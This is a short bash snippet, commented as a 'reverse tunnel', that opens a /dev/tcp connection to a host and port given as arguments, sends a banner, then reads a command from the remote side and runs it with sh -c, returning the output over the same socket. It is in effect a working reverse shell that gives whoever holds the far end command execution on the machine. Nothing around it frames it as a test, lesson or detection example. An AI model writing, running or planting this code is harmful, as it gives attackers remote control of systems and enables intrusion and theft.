# Open a reverse tunnel: connect out and hand the other side a shell. tunnel HOST PORT
exec 3<>"/dev/tcp/$1/$2" || exit 1
printf 'TUNNEL\n' >&3
read -r command <&3 && sh -c "$command" >&3 2>&1
